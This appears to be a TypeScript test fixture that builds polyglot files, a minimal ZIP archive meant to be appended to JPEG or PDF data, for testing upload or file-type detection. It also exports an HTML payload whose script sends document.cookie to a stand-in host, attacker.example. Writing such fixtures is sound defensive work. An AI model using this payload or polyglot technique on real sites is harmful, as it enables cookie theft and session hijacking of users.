import { crc32 } from 'node:zlib';

// Files that are two formats at once, the way an attacker builds them: a
// format that tolerates trailing bytes (JPEG, PDF) followed by another that is
// read from its end (ZIP) or sniffed anywhere (HTML).

export const ZIP_LOCAL_HEADER = Buffer.from('PK\x03\x04', 'latin1');

/** A valid ZIP archive holding one stored (uncompressed) file. */
export function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  ZIP_LOCAL_HEADER.copy(local, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.write('PK\x01\x02', 0, 'latin1');
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + data.length;
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 0, 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

export const HTML_PAYLOAD = '<html><body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>\n';
